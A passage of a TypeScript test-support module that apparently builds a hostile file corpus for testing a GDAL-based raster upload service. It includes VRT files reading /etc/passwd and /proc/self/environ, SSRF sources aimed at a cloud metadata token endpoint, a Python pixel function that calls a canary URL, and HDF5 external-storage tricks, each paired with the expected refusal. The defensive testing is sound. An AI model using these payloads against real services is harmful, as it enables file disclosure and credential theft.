/**
 * The hostile corpus of issue 8, generated at test time into a temp folder (no hostile bytes in
 * the repository): files that try to make the service read outside the upload or reach the
 * network, sidecars that try to change what the upload means, and request bodies that try to
 * escape the source containers. Each case says what it attacks and what the service must answer.
 * test/support/hostile.README.md lists them in a table.
 *
 * Sentinels: `sentinel/` holds files at a known local path whose content must never reach any
 * output (a float32 GeoTIFF and an HDF5 dataset filled with `sentinelPixelValue`, a zip of the
 * GeoTIFF, a VRT onto it). Hostile files point at them by absolute path, by `../` paths that
 * reach them from any scratch folder, through /vsizip/, or through HDF5 links and external storage.
 */
import { execFileSync } from 'node:child_process';
import { closeSync, constants, existsSync, mkdirSync, mkdtempSync, openSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import gdal from 'gdal-async';
import { convertRaster, writeRaster } from './fixtures.js';
import { writeCrsCases } from './hostile.crs.js';
import { writeMetadataCases } from './hostile.metadata.js';
import { writeRequestCases } from './hostile.requests.js';
import { writeVariableCases } from './hostile.variables.js';
import { findPythonWithH5py, writeHdf5Cases } from './hostile.hdf5.js';
import { writeSizeCases } from './hostile.sizes.js';

/** Filled into every sentinel pixel: exact in float32, and far from any value a fixture holds. */
export const sentinelPixelValue = 13371337;
/** Written into sidecar metadata; must never appear in a COG or a STAC document. */
export const sentinelMetadataToken = 'hostile-sentinel-4f1c9b';
/** The first bytes of /etc/passwd on any Linux; must never appear in an output. */
export const passwdMarker = 'root:x:0:0';

/** GDAL's mask flags (GMF_*), which gdal-async does not export. */
export const maskFlags = { allValid: 0x01, perDataset: 0x02 } as const;

import type { Expectation, FileCase, HostileCase, RequestCase, SourceContainer, UploadedFile } from './hostile.cases.js';
export { allowedContainers, type BatchCase, type BatchExpectation, type Expectation, type FileCase, type HostileCase, type HostRole, type QueryCase, type RequestCase, type SourceContainer, type UploadedFile } from './hostile.cases.js';

export interface HostileCorpus {
  root: string;
  sentinel: {
    /** Folder of every sentinel file: nothing under it may be opened by the host (watched with inotify when available). */
    root: string;
    /** The folder of one case's sentinel files (`<root>/<case id>`). */
    folderOf(caseId: string): string;
  };
  /** Generator notes (cases skipped because a tool was missing). */
  notes: string[];
  cases: HostileCase[];
  /**
   * Environment for the hosts under test: PROJ's network on (pointed at the canary) and HOME and
   * XDG_DATA_HOME inside the sentinel folder, so that a CRS reaching for `~/…` or for PROJ's
   * user-writable grid folder opens a watched file.
   */
  hostEnvironment: Record<string, string>;
  /**
   * Opens every named pipe of the corpus for writing and closes it again, so that a reader blocked
   * on one goes on; returns the pipes that had a reader (someone opened them).
   */
  releaseFifos(paths?: readonly string[]): string[];
  remove(): void;
}

export interface CorpusOptions {
  /** Base URL of the canary server, the target of every URL in the corpus. */
  canaryUrl: string;
  /** Folder prefix of every blob name, e.g. `hostile`. */
  blobFolder?: string;
}

/** What the class generators of issue 18 write with (one per corpus). */
export interface CorpusContext {
  /** Folder prefix of every blob name. */
  folder: string;
  /** A canary URL under the case's own path. */
  canaryUrl(caseId: string, path: string): string;
  canaryPort: number;
  /** A new file path for a case's upload (`files/<case id>/<name>`). */
  caseFile(caseId: string, name: string): string;
  /** The case's sentinel folder (created). */
  sentinelFolder(caseId: string): string;
  /** The hosts' HOME and XDG_DATA_HOME (inside the sentinel folder). */
  homeDir: string;
  userDataDir: string;
  /** Named pipes made so far. */
  fifos: string[];
  notes: string[];
  fileCase(spec: Omit<FileCase, 'kind' | 'container' | 'source' | 'files'> & { container?: SourceContainer; files: Array<string | UploadedFile> }): void;
  addCase(entry: HostileCase): void;
}

const utm33Wkt = (): string => gdal.SpatialReference.fromEPSG(32633).toWKT();
const gridTransform = '500000, 10, 0, 6000000, 0, -10';

/** A `../` path that resolves to `absolute` from any folder up to 16 levels deep. */
function climbingPath(absolute: string): string {
  return `${'../'.repeat(16)}${absolute.replace(/^\/+/, '')}`;
}

function xmlEscape(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
}

/** A georeferenced VRT (UTM 33N, 10 m) of `size`² pixels around the given band elements, so it would pass validation if opened. */
function vrtDocument(bands: string, size = 64, extraAttributes = ''): string {
  return (
    `<VRTDataset rasterXSize="${size}" rasterYSize="${size}"${extraAttributes}>\n` +
    `  <SRS>${xmlEscape(utm33Wkt())}</SRS>\n` +
    `  <GeoTransform>${gridTransform}</GeoTransform>\n` +
    `${bands}\n</VRTDataset>\n`
  );
}

function simpleSourceBand(sourceFilename: string, dataType = 'Float32', relative = false, element = 'SimpleSource', size = 64): string {
  return (
    `  <VRTRasterBand dataType="${dataType}" band="1">\n` +
    `    <${element}>\n` +
    `      <SourceFilename relativeToVRT="${relative ? 1 : 0}">${xmlEscape(sourceFilename)}</SourceFilename>\n` +
    `      <SourceBand>1</SourceBand>\n` +
    `      <SrcRect xOff="0" yOff="0" xSize="${size}" ySize="${size}" />\n` +
    `      <DstRect xOff="0" yOff="0" xSize="${size}" ySize="${size}" />\n` +
    `    </${element}>\n` +
    `  </VRTRasterBand>`
  );
}

/** A raw band: the bytes of `sourceFilename`, read as 32×16 Byte pixels (512 bytes, less than any /etc/passwd). */
function rawBand(sourceFilename: string, relative = false): string {
  return (
    `  <VRTRasterBand dataType="Byte" band="1" subClass="VRTRawRasterBand">\n` +
    `    <SourceFilename relativetoVRT="${relative ? 1 : 0}">${xmlEscape(sourceFilename)}</SourceFilename>\n` +
    `    <ImageOffset>0</ImageOffset><PixelOffset>1</PixelOffset><LineOffset>32</LineOffset>\n` +
    `  </VRTRasterBand>`
  );
}

function rawVrt(sourceFilename: string, relative = false): string {
  return (
    `<VRTDataset rasterXSize="32" rasterYSize="16">\n  <SRS>${xmlEscape(utm33Wkt())}</SRS>\n` +
    `  <GeoTransform>${gridTransform}</GeoTransform>\n${rawBand(sourceFilename, relative)}\n</VRTDataset>\n`
  );
}

/** A small valid float32 GeoTIFF in UTM 33N whose values stay in 0..100. */
function writePlainTiff(path: string, size = 64, georeferenced: 'full' | 'no-crs' | 'none' = 'full'): string {
  return writeRaster(path, {
    width: size,
    height: size,
    bands: 1,
    dataType: gdal.GDT_Float32,
    srs: georeferenced === 'full' ? gdal.SpatialReference.fromEPSG(32633) : null,
    geoTransform: georeferenced === 'none' ? null : [500000, 10, 0, 6000000, 0, -10],
    value: (x, y) => (x * 3 + y * 7) % 100,
  });
}

function writeByteTiff(path: string, size = 64): string {
  return writeRaster(path, {
    width: size,
    height: size,
    bands: 1,
    dataType: gdal.GDT_Byte,
    srs: gdal.SpatialReference.fromEPSG(32633),
    geoTransform: [500000, 10, 0, 6000000, 0, -10],
    value: (x, y) => (x + 2 * y) % 200,
  });
}

/** Zip files and HDF5 files with links, written by Python's zipfile and h5py from a JSON job list. */
const pythonWriter = String.raw`
import json, sys, zipfile
jobs = json.loads(sys.argv[1])
for job in jobs:
    if job['kind'] == 'zip':
        with zipfile.ZipFile(job['path'], 'w') as archive:
            for entry in job['entries']:
                archive.write(entry['path'], entry['name'])
        continue
    import h5py, numpy
    if job['kind'] == 'h5-sentinel':
        with h5py.File(job['path'], 'w') as f:
            f.create_dataset('sentinel', data=numpy.full((64, 64), job['value'], dtype='f4'))
        continue
    with h5py.File(job['path'], 'w') as f:
        rows, cols = job['shape']
        # CF lat/lon dimension scales, so a netCDF reader sees a georeferenced grid and reads its pixels.
        lat = f.create_dataset('lat', data=numpy.linspace(50.0, 49.0, rows).astype('f8'))
        lon = f.create_dataset('lon', data=numpy.linspace(10.0, 11.0, cols).astype('f8'))
        lat.attrs['units'] = 'degrees_north'; lat.attrs['standard_name'] = 'latitude'
        lon.attrs['units'] = 'degrees_east'; lon.attrs['standard_name'] = 'longitude'
        lat.make_scale('lat'); lon.make_scale('lon')
        if job['kind'] == 'h5-external-link':
            f['z'] = h5py.ExternalLink(job['target'], job['targetPath'])
        elif job['kind'] == 'h5-external-storage':
            z = f.create_dataset('z', shape=(rows, cols), dtype=job['dtype'], external=[(job['target'], 0, job['bytes'])])
            z.dims[0].attach_scale(lat); z.dims[1].attach_scale(lon)
        elif job['kind'] == 'h5-plain':
            z = f.create_dataset('z', data=numpy.arange(rows * cols, dtype='f4').reshape(rows, cols) % 100)
            z.dims[0].attach_scale(lat); z.dims[1].attach_scale(lon)
`;

type PythonJob =
  | { kind: 'zip'; path: string; entries: Array<{ path: string; name: string }> }
  | { kind: 'h5-sentinel'; path: string; value: number }
  | { kind: 'h5-external-link'; path: string; shape: [number, number]; target: string; targetPath: string }
  | { kind: 'h5-external-storage'; path: string; shape: [number, number]; target: string; dtype: string; bytes: number }
  | { kind: 'h5-plain'; path: string; shape: [number, number] };

export function generateHostileCorpus(options: CorpusOptions): HostileCorpus {
  const root = mkdtempSync(join(tmpdir(), 'hostile-corpus-'));
  try {
    return writeCorpus(root, options);
  } catch (error) {
    // A half-written corpus holds sentinels and hostile files: never leave it behind.
    rmSync(root, { recursive: true, force: true });
    throw error;
  }
}

function writeCorpus(root: string, options: CorpusOptions): HostileCorpus {
  const sentinelDir = join(root, 'sentinel');
  const filesDir = join(root, 'files');
  mkdirSync(sentinelDir);
  mkdirSync(filesDir);
  const folder = options.blobFolder ?? 'hostile';
  const canary = options.canaryUrl.replace(/\/$/, '');
  /** A canary URL under the case's own path, so a request it causes names the case. */
  const canaryUrl = (caseId: string, path: string): string => `${canary}/${caseId}/${path}`;
  const notes: string[] = [];
  const cases: HostileCase[] = [];
  const python = findPythonWithH5py();

  const pythonJobs: PythonJob[] = [];
  // Sentinels: content that must never reach an output, at paths that must never be opened. Each
  // case gets its own folder under sentinel/, so an open of any file there names the case.
  const sentinelFolder = (caseId: string): string => {
    const folderPath = join(sentinelDir, caseId);
    mkdirSync(folderPath, { recursive: true });
    return folderPath;
  };
  const sentinelTif = (caseId: string): string => {
    const path = join(sentinelFolder(caseId), 'sentinel.tif');
    if (existsSync(path)) return path;
    return writeRaster(path, {
      width: 64,
      height: 64,
      bands: 1,
      dataType: gdal.GDT_Float32,
      srs: gdal.SpatialReference.fromEPSG(32633),
      geoTransform: [500000, 10, 0, 6000000, 0, -10],
      creationOptions: [],
      value: () => sentinelPixelValue,
    });
  };
  const sentinelVrt = (caseId: string): string => {
    const path = join(sentinelFolder(caseId), 'sentinel-inner.vrt');
    writeFileSync(path, vrtDocument(simpleSourceBand(sentinelTif(caseId))));
    return path;
  };
  const sentinelZip = (caseId: string): string => {
    const path = join(sentinelFolder(caseId), 'sentinel.zip');
    pythonJobs.push({ kind: 'zip', path, entries: [{ path: sentinelTif(caseId), name: 'sentinel.tif' }] });
    return path;
  };
  const sentinelH5 = (caseId: string): string => {
    const path = join(sentinelFolder(caseId), 'sentinel.h5');
    pythonJobs.push({ kind: 'h5-sentinel', path, value: sentinelPixelValue });
    return path;
  };

  const local = (name: string): string => join(filesDir, name);
  const text = (name: string, content: string): string => {
    writeFileSync(local(name), content);
    return local(name);
  };
  const fileCase = (
    spec: Omit<FileCase, 'kind' | 'container' | 'source' | 'files'> & { container?: SourceContainer; files: Array<string | UploadedFile> },
  ): void => {
    const files = spec.files.map((file) => (typeof file === 'string' ? { blobName: basename(file), localPath: file } : file));
    const container = spec.container ?? 'incoming';
    cases.push({ ...spec, kind: 'file', container, source: `${folder}/${spec.id}/${files[0]!.blobName}`, files });
  };
  const vrtRefusal = /VRT/;

  // --- VRT and its relatives: references to local files -------------------------------------
  fileCase({
    id: 'vrt-raw-etc-passwd',
    category: 'VRT, local file',
    attack: 'raw VRT band over /etc/passwd: publishes a system file as pixels (the issue report); dropped in uploads/ for the upload trigger',
    container: 'uploads',
    files: [text('passwd.vrt', rawVrt('/etc/passwd'))],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-raw-proc-environ',
    category: 'VRT, local file',
    attack: 'raw VRT band over /proc/self/environ: the worker environment with its storage key',
    files: [text('environ.vrt', rawVrt('/proc/self/environ'))],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-raw-relative-passwd',
    category: 'VRT, local file',
    attack: 'raw band with relativeToVRT=1 and ../ segments up to /etc/passwd from the scratch folder',
    files: [text('relative.vrt', rawVrt(climbingPath('/etc/passwd'), true))],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-vsisubfile-passwd',
    category: 'VRT, local file',
    attack: 'raw band over /vsisubfile/0_512,/etc/passwd',
    files: [text('subfile.vrt', rawVrt('/vsisubfile/0_512,/etc/passwd'))],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-simple-sentinel',
    category: 'VRT, local file',
    attack: 'SimpleSource on a GeoTIFF at a known local path (the sentinel)',
    files: [text('simple.vrt', vrtDocument(simpleSourceBand(sentinelTif('vrt-simple-sentinel'))))],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-complex-relative-sentinel',
    category: 'VRT, local file',
    attack: 'ComplexSource with relativeToVRT=1 climbing to the sentinel',
    files: [text('complex.vrt', vrtDocument(simpleSourceBand(climbingPath(sentinelTif('vrt-complex-relative-sentinel')), 'Float32', true, 'ComplexSource')))],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-nested',
    category: 'VRT, local file',
    attack: 'a VRT whose source is another VRT (on local disk) whose source is the sentinel',
    files: [text('outer.vrt', vrtDocument(simpleSourceBand(sentinelVrt('vrt-nested'))))],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-disguised-as-tif',
    category: 'VRT, disguised',
    attack: 'VRT XML named scene.tif (sentinel source): extension checks do not help',
    files: [text('scene.tif', vrtDocument(simpleSourceBand(sentinelTif('vrt-disguised-as-tif'))))],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-xml-prolog',
    category: 'VRT, disguised',
    attack: 'VRT after an XML declaration and a comment, named .xml: first-bytes sniffing does not help',
    files: [text('prolog.xml', `<?xml version="1.0" encoding="UTF-8"?>\n<!-- ${'padding '.repeat(40)} -->\n${vrtDocument(simpleSourceBand(sentinelTif('vrt-xml-prolog')))}`)],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-warped-sentinel',
    category: 'VRT, local file',
    attack: 'VRTWarpedDataset whose SourceDataset is the sentinel',
    files: [
      text(
        'warped.vrt',
        `<VRTDataset rasterXSize="64" rasterYSize="64" subClass="VRTWarpedDataset">\n  <SRS>${xmlEscape(utm33Wkt())}</SRS>\n` +
          `  <GeoTransform>${gridTransform}</GeoTransform>\n  <VRTRasterBand dataType="Float32" band="1" subClass="VRTWarpedRasterBand" />\n` +
          `  <BlockXSize>64</BlockXSize><BlockYSize>64</BlockYSize>\n  <GDALWarpOptions>\n    <WarpMemoryLimit>6.7e+07</WarpMemoryLimit>\n` +
          `    <ResampleAlg>NearestNeighbour</ResampleAlg><WorkingDataType>Float32</WorkingDataType>\n` +
          `    <SourceDataset relativeToVRT="0">${xmlEscape(sentinelTif('vrt-warped-sentinel'))}</SourceDataset>\n` +
          `    <Transformer><ApproxTransformer><MaxError>0.125</MaxError><BaseTransformer><GenImgProjTransformer>\n` +
          `      <SrcGeoTransform>${gridTransform}</SrcGeoTransform><SrcInvGeoTransform>-50000, 0.1, 0, 600000, 0, -0.1</SrcInvGeoTransform>\n` +
          `      <DstGeoTransform>${gridTransform}</DstGeoTransform><DstInvGeoTransform>-50000, 0.1, 0, 600000, 0, -0.1</DstInvGeoTransform>\n` +
          `    </GenImgProjTransformer></BaseTransformer></ApproxTransformer></Transformer>\n` +
          `    <BandList><BandMapping src="1" dst="1" /></BandList>\n  </GDALWarpOptions>\n</VRTDataset>\n`,
      ),
    ],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-pansharpened',
    category: 'VRT, local file',
    attack: 'VRTPansharpenedDataset with the sentinel as panchromatic and spectral band',
    files: [
      text(
        'pansharpened.vrt',
        `<VRTDataset subClass="VRTPansharpenedDataset">\n  <PansharpeningOptions>\n` +
          `    <PanchroBand><SourceFilename relativeToVRT="0">${xmlEscape(sentinelTif('vrt-pansharpened'))}</SourceFilename><SourceBand>1</SourceBand></PanchroBand>\n` +
          `    <SpectralBand dstBand="1"><SourceFilename relativeToVRT="0">${xmlEscape(sentinelTif('vrt-pansharpened'))}</SourceFilename><SourceBand>1</SourceBand></SpectralBand>\n` +
          `  </PansharpeningOptions>\n</VRTDataset>\n`,
      ),
    ],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-derived-python',
    category: 'VRT, code execution',
    attack: 'VRTDerivedRasterBand with an inline Python pixel function that reads the sentinel and calls the canary',
    files: [
      text(
        'python.vrt',
        vrtDocument(
          `  <VRTRasterBand dataType="Float32" band="1" subClass="VRTDerivedRasterBand">\n` +
            `    <PixelFunctionType>exfiltrate</PixelFunctionType>\n    <PixelFunctionLanguage>Python</PixelFunctionLanguage>\n` +
            `    <PixelFunctionCode><![CDATA[\nimport urllib.request\ndef exfiltrate(in_ar, out_ar, *args, **kwargs):\n` +
            `    open(${JSON.stringify(sentinelTif('vrt-derived-python'))}, 'rb').read()\n    urllib.request.urlopen(${JSON.stringify(canaryUrl('vrt-derived-python', 'pixel-function'))})\n` +
            `    out_ar[:] = ${sentinelPixelValue}\n]]></PixelFunctionCode>\n` +
            `    <SimpleSource><SourceFilename relativeToVRT="0">${xmlEscape(sentinelTif('vrt-derived-python'))}</SourceFilename><SourceBand>1</SourceBand></SimpleSource>\n  </VRTRasterBand>`,
        ),
      ),
    ],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });

  // --- VRT: network and virtual file systems ------------------------------------------------
  fileCase({
    id: 'vrt-http-source',
    category: 'VRT, network',
    attack: 'SimpleSource with a plain http:// URL (the canary): the 10 outbound requests of the issue',
    files: [text('http.vrt', vrtDocument(simpleSourceBand(canaryUrl('vrt-http-source', 'scene.tif'))))],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-vsicurl-canary',
    category: 'VRT, network',
    attack: 'SimpleSource on /vsicurl/ to the canary',
    files: [text('vsicurl.vrt', vrtDocument(simpleSourceBand(`/vsicurl/${canaryUrl('vrt-vsicurl-canary', 'scene.tif')}`)))],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-vsicurl-metadata-endpoint',
    category: 'VRT, network',
    attack: 'SimpleSource on /vsicurl/ to the instance metadata endpoint (169.254.169.254; reaches the canary through GDAL_HTTP_PROXY)',
    files: [text('imds.vrt', vrtDocument(simpleSourceBand('/vsicurl/http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vrt-vsicurl-metadata-endpoint/')))],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-vsizip-sentinel',
    category: 'VRT, virtual file system',
    attack: 'SimpleSource on /vsizip/ into a local zip holding the sentinel',
    files: [text('vsizip.vrt', vrtDocument(simpleSourceBand(`/vsizip/${sentinelZip('vrt-vsizip-sentinel')}/sentinel.tif`)))],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-vsistdin',
    category: 'VRT, virtual file system',
    attack: 'SimpleSource on /vsistdin/: the worker process standard input',
    files: [text('vsistdin.vrt', vrtDocument(simpleSourceBand('/vsistdin/')))],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });
  fileCase({
    id: 'vrt-vsiaz-other-container',
    category: 'VRT, network',
    attack: 'SimpleSource on /vsiaz/ naming another container (GDAL\'s Azure account is pointed at the canary through GDAL_HTTP_PROXY)',
    files: [text('vsiaz.vrt', vrtDocument(simpleSourceBand('/vsiaz/azure-webjobs-secrets/host.json')))],
    expect: { outcome: 'job-failed', reason: vrtRefusal },
  });

  // --- GDAL XML service descriptions ---------------------------------------------------------
  const wms = (id: string): string =>
    `<GDAL_WMS>\n  <Service name="WMS"><Version>1.1.1</Version><ServerUrl>${xmlEscape(`${canaryUrl(id, 'wms')}?`)}</ServerUrl>` +
    `<SRS>EPSG:4326</SRS><ImageFormat>image/png</ImageFormat><Layers>hostile</Layers></Service>\n` +
    `  <DataWindow><UpperLeftX>-180</UpperLeftX><UpperLeftY>90</UpperLeftY><LowerRightX>180</LowerRightX><LowerRightY>-90</LowerRightY>` +
    `<SizeX>512</SizeX><SizeY>256</SizeY></DataWindow>\n  <BandsCount>3</BandsCount><BlockSizeX>256</BlockSizeX><BlockSizeY>256</BlockSizeY>\n</GDAL_WMS>\n`;
  fileCase({
    id: 'wms-canary',
    category: 'GDAL XML service',
    attack: 'GDAL_WMS description whose server is the canary; dropped in uploads/ for the upload trigger',
    container: 'uploads',
    files: [text('service.xml', wms('wms-canary'))],
    expect: { outcome: 'job-failed', reason: /WMS/ },
  });
  fileCase({
    id: 'wms-disguised-as-tif',
    category: 'GDAL XML service',
    attack: 'the same GDAL_WMS description named tiles.tif',
    files: [text('tiles.tif', wms('wms-disguised-as-tif'))],
    expect: { outcome: 'job-failed', reason: /WMS/ },
  });
  fileCase({
    id: 'wms-tms-canary',
    category: 'GDAL XML service',
    attack: 'GDAL_WMS with a TMS tile service on the canary',
    files: [
      text(
        'tms.xml',
        `<GDAL_WMS>\n  <Service name="TMS"><ServerUrl>${xmlEscape(`${canaryUrl('wms-tms-canary', 'tms')}/\${z}/\${x}/\${y}.png`)}</ServerUrl></Service>\n` +
          `  <DataWindow><UpperLeftX>-20037508.34</UpperLeftX><UpperLeftY>20037508.34</UpperLeftY><LowerRightX>20037508.34</LowerRightX>` +
          `<LowerRightY>-20037508.34</LowerRightY><TileLevel>2</TileLevel><TileCountX>1</TileCountX><TileCountY>1</TileCountY><YOrigin>top</YOrigin></DataWindow>\n` +
          `  <Projection>EPSG:3857</Projection><BlockSizeX>256</BlockSizeX><BlockSizeY>256</BlockSizeY><BandsCount>3</BandsCount>\n</GDAL_WMS>\n`,
      ),
    ],
    expect: { outcome: 'job-failed', reason: /WMS|TMS/ },
  });
  fileCase({
    id: 'wmts-canary',
    category: 'GDAL XML service',
    attack: 'GDAL_WMTS description whose GetCapabilities URL is the canary',
    files: [text('wmts.xml', `<GDAL_WMTS>\n  <GetCapabilitiesUrl>${xmlEscape(`${canaryUrl('wmts-canary', 'wmts')}?SERVICE=WMTS&REQUEST=GetCapabilities`)}</GetCapabilitiesUrl>\n  <Layer>hostile</Layer>\n</GDAL_WMTS>\n`)],
    expect: { outcome: 'job-failed', reason: /WMTS/ },
  });
  // STAC orders the affine transform [xres, 0, xoff, 0, yres, yoff].
  const stacProjection = { 'proj:epsg': 32633, 'proj:shape': [64, 64], 'proj:transform': [10, 0, 500000, 0, -10, 6000000] };
  fileCase({
    id: 'stacit-canary',
    category: 'GDAL XML/JSON service',
    attack: 'a STAC ItemCollection (GDAL STACIT driver) whose asset is on the canary',
    files: [
      text(
        'items.json',
        JSON.stringify({
          type: 'FeatureCollection',
          features: [
            {
              type: 'Feature',
              stac_version: '1.0.0',
              stac_extensions: ['https://stac-extensions.github.io/projection/v1.0.0/schema.json'],
              id: 'hostile',
              geometry: { type: 'Polygon', coordinates: [[[10, 49], [11, 49], [11, 50], [10, 50], [10, 49]]] },
              bbox: [10, 49, 11, 50],
              properties: { datetime: '2024-01-01T00:00:00Z', ...stacProjection },
              assets: { data: { href: canaryUrl('stacit-canary', 'asset.tif'), type: 'image/tiff; application=geotiff', roles: ['data'], ...stacProjection } },
              links: [],
            },
          ],
        }),
      ),
    ],
    expect: { outcome: 'job-failed', reason: /STAC/ },
  });

  // --- Dataset strings and containers ------------------------------------------------------
  fileCase({
    id: 'mem-string-as-tif',
    category: 'dataset string',
    attack: 'a .tif whose content is a GDAL MEM::: dataset string with a raw memory pointer',
    files: [text('memory.tif', 'MEM:::DATAPOINTER=0x1000,PIXELS=64,LINES=64,BANDS=1,DATATYPE=Byte\n')],
    expect: { outcome: 'job-failed', reason: /GeoTIFF/ },
  });
  fileCase({
    id: 'vsi-string-as-tif',
    category: 'dataset string',
    attack: 'a .tif whose content is a /vsicurl/ dataset name to the canary',
    files: [text('pointer.tif', `/vsicurl/${canaryUrl('vsi-string-as-tif', 'scene.tif')}\n`)],
    expect: { outcome: 'job-failed', reason: /GeoTIFF/ },
  });
  const memNamed = local('mem-named.tif');
  writePlainTiff(memNamed);
  fileCase({
    id: 'mem-string-blob-name',
    category: 'dataset string',
    attack: 'a valid GeoTIFF whose blob name is a MEM::: dataset string: only ever a name, never opened as one',
    files: [{ blobName: 'MEM:::DATAPOINTER=0x1000,PIXELS=64,LINES=64.tif', localPath: memNamed }],
    expect: { outcome: 'job-completed-clean' },
  });
  const zippedVrt = text('zipped-inner.vrt', vrtDocument(simpleSourceBand(sentinelTif('zip-disguised-as-tif'))));
  pythonJobs.push({ kind: 'zip', path: local('archive.tif'), entries: [{ path: zippedVrt, name: 'scene.vrt' }] });
  fileCase({
    id: 'zip-disguised-as-tif',
    category: 'archive',
    attack: 'a .tif that is really a zip holding a VRT onto the sentinel',
    files: [local('archive.tif')],
    expect: { outcome: 'job-failed', reason: /GeoTIFF|zip/i },
  });
  const zippedTiff = writeByteTiff(local('inside.tif'));
  pythonJobs.push({ kind: 'zip', path: local('bundle.zip'), entries: [{ path: zippedTiff, name: 'inside.tif' }] });
  fileCase({
    id: 'zip-of-geotiff',
    category: 'archive',
    attack: 'a zip holding a valid GeoTIFF (would need /vsizip/ to open)',
    files: [local('bundle.zip')],
    expect: { outcome: 'job-failed', reason: /GeoTIFF|zip/i },
  });

  // --- HDF5 and netCDF-4 -------------------------------------------------------------------
  const netcdf4Base = writePlainTiff(local('nc4-base.tif'));
  fileCase({
    id: 'netcdf4-plain',
    category: 'HDF5 / netCDF-4',
    attack: 'a harmless netCDF-4 file (GDAL wrote it): ingested since issue 20, its HDF5 structure walked from raw bytes first',
    files: [convertRaster(netcdf4Base, 'netCDF', 'plain-nc4.nc', ['-co', 'FORMAT=NC4'])],
    expect: { outcome: 'job-completed-clean' },
  });
  if (python) {
    pythonJobs.push({ kind: 'h5-external-link', path: local('external-link.nc'), shape: [64, 64], target: sentinelH5('netcdf4-external-link'), targetPath: '/sentinel' });
    fileCase({
      id: 'netcdf4-external-link',
      category: 'HDF5 / netCDF-4',
      attack: 'netCDF-4 whose variable is an HDF5 external link to the sentinel HDF5 file',
      files: [local('external-link.nc')],
      expect: { outcome: 'job-failed', reason: /external link/i, codes: ['INVALID_INPUT'] },
    });
    pythonJobs.push({ kind: 'h5-external-storage', path: local('external-passwd.nc'), shape: [16, 32], target: '/etc/passwd', dtype: 'u1', bytes: 512 });
    fileCase({
      id: 'netcdf4-external-storage-passwd',
      category: 'HDF5 / netCDF-4',
      attack: 'georeferenced netCDF-4 variable whose raw data is HDF5 external storage in /etc/passwd',
      files: [local('external-passwd.nc')],
      expect: { outcome: 'job-failed', reason: /external storage/i, codes: ['INVALID_INPUT'] },
    });
    pythonJobs.push({ kind: 'h5-external-storage', path: local('external-sentinel.h5'), shape: [64, 64], target: sentinelTif('hdf5-external-storage-sentinel'), dtype: '<f4', bytes: 64 * 64 * 4 });
    fileCase({
      id: 'hdf5-external-storage-sentinel',
      category: 'HDF5 / netCDF-4',
      attack: 'HDF5 dataset whose raw data is external storage in the sentinel GeoTIFF',
      files: [local('external-sentinel.h5')],
      expect: { outcome: 'job-failed', reason: /external storage/i, codes: ['INVALID_INPUT'] },
    });
    pythonJobs.push({ kind: 'h5-plain', path: local('scene.kea'), shape: [64, 64] });
    fileCase({
      id: 'kea-hdf5',
      category: 'HDF5 / netCDF-4',
      attack: 'an HDF5 file named .kea (KEA is HDF5 underneath): read as the HDF5 it is, whatever its name (a CF grid, so ingested)',
      files: [local('scene.kea')],
      expect: { outcome: 'job-completed-clean' },
    });
  } else {
    notes.push('no python3 with h5py (Debian package python3-h5py): the HDF5 external link/storage cases and the KEA case were not generated');
  }

  // --- Other formats: not on the allowlist --------------------------------------------------
  const base = writeByteTiff(local('format-base.tif'));
  fileCase({
    id: 'hfa-img',
    category: 'format, checked from raw bytes',
    attack: 'Erdas Imagine .img (HFA can name external spill and overview files); dropped in uploads/ for the upload trigger. Allowed since issue 18 (its node tree is walked from raw bytes first): a plain one is ingested',
    container: 'uploads',
    files: [convertRaster(base, 'HFA', 'scene.img')],
    expect: { outcome: 'job-completed-clean' },
  });
  fileCase({
    id: 'jpeg2000',
    category: 'format, checked from raw bytes',
    attack: 'JPEG2000 (GMLJP2 boxes can carry links). Allowed since issue 18 (its boxes are read from raw bytes first): a plain one is ingested',
    files: [convertRaster(base, 'JP2OpenJPEG', 'scene.jp2')],
    expect: { outcome: 'job-completed-clean' },
  });
  const png = convertRaster(base, 'PNG', 'scene.png', ['-co', 'WORLDFILE=YES']);
  fileCase({
    id: 'png-with-world-file',
    category: 'format not allowed',
    attack: 'PNG with a .wld world file next to it',
    files: [png, local('scene.wld')],
    expect: { outcome: 'job-failed', reason: /PNG/ },
  });
  fileCase({
    id: 'geopackage',
    category: 'format not allowed',
    attack: 'GeoPackage raster (an SQLite database)',
    files: [convertRaster(base, 'GPKG', 'scene.gpkg')],
    expect: { outcome: 'job-failed', reason: /GeoPackage|GPKG/i },
  });
  fileCase({
    id: 'ascii-grid',
    category: 'format not allowed',
    attack: 'Arc/Info ASCII grid with a .prj sidecar',
    files: [convertRaster(base, 'AAIGrid', 'scene.asc'), local('scene.prj')],
    expect: { outcome: 'job-failed', reason: /AAIGrid|ASCII/i },
  });
  const envi = convertRaster(base, 'ENVI', 'scene.dat');
  fileCase({
    id: 'envi-with-header',
    category: 'format not allowed',
